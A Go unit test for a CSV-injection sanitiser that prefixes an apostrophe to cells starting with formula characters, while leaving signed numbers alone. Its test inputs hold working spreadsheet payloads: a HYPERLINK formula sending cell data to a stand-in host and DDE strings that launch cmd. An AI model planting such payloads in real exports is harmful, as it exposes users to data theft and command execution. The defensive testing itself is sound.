package out

import "testing"

// TestSpreadsheetSafe: the OWASP CSV-injection starts (= + - @ tab CR) and
// a stretch after a semicolon get an apostrophe; numbers, with a sign or
// not, and text that only contains those characters later stay as they
// are.
func TestSpreadsheetSafe(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?d="&A1,"Click me")`: `'=HYPERLINK("http://evil.example/?d="&A1,"Click me")`,
		"+1+cmd|' /C calc'!A0":                                "'+1+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0":                              "'-2+3+cmd|' /C calc'!A0",
		"@SUM(A1:A9)":                                         "'@SUM(A1:A9)",
		"\tx":                                                 "'\tx",
		"\rx":                                                 "'\rx",
		"  =1+1":                                              "  '=1+1",
		"＝1+1":                                                "'＝1+1",
		"Safe; =1+1":                                          "Safe; '=1+1",
		`a;"=1+1"`:                                            `a;'"=1+1"`,
		"-Inf":                                                "'-Inf",
		"-":                                                   "'-",
		"-0.25":                                               "-0.25",
		"+3":                                                  "+3",
		"-1e-05":                                              "-1e-05",
		"1.5E+10":                                             "1.5E+10",
		"Isolated =x":                                         "Isolated =x",
		"a-b, c+d":                                            "a-b, c+d",
		"":                                                    "",
	} {
		if got := SpreadsheetSafe(in); got != want {
			t.Errorf("SpreadsheetSafe(%q) = %q, want %q", in, got, want)
		}
	}
	// A title line between CSV tables: a cell starts after each comma too.
	if got := CellsSafe.line("# Ego of x, =1+1;@y"); got != "# Ego of x, '=1+1;'@y" {
		t.Errorf("line: %q", got)
	}
	if got := CellsLiteral.line("# =x, =y"); got != "# =x, =y" {
		t.Errorf("literal line: %q", got)
	}
}
